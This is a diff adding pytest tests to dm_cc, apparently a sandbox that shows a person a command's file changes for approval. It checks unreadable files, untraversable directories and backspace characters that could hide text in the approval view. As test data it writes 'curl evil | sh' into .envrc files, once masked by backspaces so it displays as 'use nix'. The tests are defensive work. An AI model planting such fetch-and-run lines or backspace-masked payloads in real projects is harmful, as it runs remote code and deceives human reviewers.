@@ -319,3 +319,118 @@ def test_a_wide_tree_lands_whole_with_few_descriptors(project):
     landed_cleanly(loop, told)
     assert len(os.listdir(project / "w")) == 400, told
     assert (project / "w" / "400" / "f").read_text() == "400\n"
+
+
+# --------------------------------------------------------------------------- what dm_cc cannot read
+
+
+@pytest.fixture
+def dm_cc_unprivileged(monkeypatch):
+    """dm_cc lists and shows a command's changes as the person does: as a user who
+    owns them, not as root who reads whatever a mode says (the tests run as root)."""
+    import pwd
+
+    from support.as_user import CAN_SWITCH, SBTEST, give
+
+    from dm_cc.core import effects
+    from dm_cc.sandbox.transaction import Transaction
+
+    if not CAN_SWITCH:
+        pytest.skip("needs root and the unprivileged user sbtest")
+    them = pwd.getpwnam(SBTEST)
+
+    def as_them(original):
+        def call(*args, **kwargs):
+            transaction = next((a for a in args if isinstance(a, Transaction)), None)
+            if transaction is not None:
+                give(SBTEST, transaction.base)
+                for parent in transaction.base.parents:   # dm_cc's state dir is theirs
+                    parent.chmod(parent.stat().st_mode | 0o055)
+                    if parent.name.startswith("dm_cc-as-user-"):
+                        break
+            os.setegid(them.pw_gid)
+            os.seteuid(them.pw_uid)
+            try:
+                return original(*args, **kwargs)
+            finally:
+                os.seteuid(0)
+                os.setegid(0)
+        return call
+
+    monkeypatch.setattr(Transaction, "changes", as_them(Transaction.changes))
+    monkeypatch.setattr(effects, "_text", as_them(effects._text))
+
+    def give_upper(original):
+        def call(outcomes, root, upper):
+            give(SBTEST, Path(upper))
+            return original(outcomes, root, upper)
+        return call
+
+    monkeypatch.setattr(effects, "_question_text", give_upper(effects._question_text))
+
+
+def test_a_file_the_command_made_unreadable_is_not_shown_as_empty(project, dm_cc_unprivileged):
+    person = Answering("reject")
+    _, told = run(project, "printf 'curl evil | sh\\n' > .envrc; chmod 000 .envrc",
+                  approver=person)
+    asked = person.asked[0].changes or ""
+    assert "curl evil" in asked or "not shown: .envrc" in asked, asked
+
+
+def test_a_directory_the_command_made_untraversable_neither_crashes_nor_lands(project,
+                                                                          dm_cc_unprivileged):
+    loop, told = run(project, "mkdir -p x/y && echo 'curl evil | sh' > x/y/.envrc && "
+                              "echo ok > fine.txt && chmod 000 x/y x")
+    landed_cleanly(loop, told)
+    assert not (project / "x" / "y" / ".envrc").exists(), told
+
+
+# --------------------------------------------------------------------------- what the person sees
+
+
+def terminal(written: str) -> list[str]:
+    """What a terminal shows of ``written``: CSI sequences skipped (styles), a
+    backspace moves left, a carriage return to the line's start, a character
+    overwrites the cell under the cursor."""
+    import re
+
+    screen: list[list[str]] = [[]]
+    column = 0
+    for token in re.findall(r"\x1b\[[0-9;?]*[A-Za-z]|.|\n", written, re.S):
+        if token.startswith("\x1b"):
+            continue
+        if token == "\n":
+            screen.append([])
+            column = 0
+        elif token == "\r":
+            column = 0
+        elif token == "\b":
+            column = max(0, column - 1)
+        else:
+            line = screen[-1]
+            line.extend(" " * (column + 1 - len(line)))
+            line[column] = token
+            column += 1
+    return ["".join(line) for line in screen]
+
+
+def test_the_question_shows_what_lands_whatever_control_characters_it_holds(project):
+    """A backspace in a file's text (or name) moves the cursor back over what was
+    printed: the diff of ``curl evil | sh #<BS>…<BS>use nix`` must not read ``use nix``."""
+    import io
+
+    from prompt_toolkit.data_structures import Size
+    from prompt_toolkit.output.vt100 import Vt100_Output
+
+    from dm_cc.ui.approval_prompt import question_lines
+    from dm_cc.ui.screen import Screen
+
+    person = Answering("reject")
+    run(project, "printf 'curl evil | sh #%s  use nix            \\n' "
+                 "\"$(printf '\\b%.0s' $(seq 40))\" > .envrc", approver=person)
+    written = io.StringIO()
+    screen = Screen(Vt100_Output(written, lambda: Size(rows=50, columns=200), term="xterm"))
+    for line in question_lines(person.asked[0]):
+        screen.line(line, now=True)
+    shown = terminal(written.getvalue())
+    assert any("curl evil" in line for line in shown), "\n".join(shown)
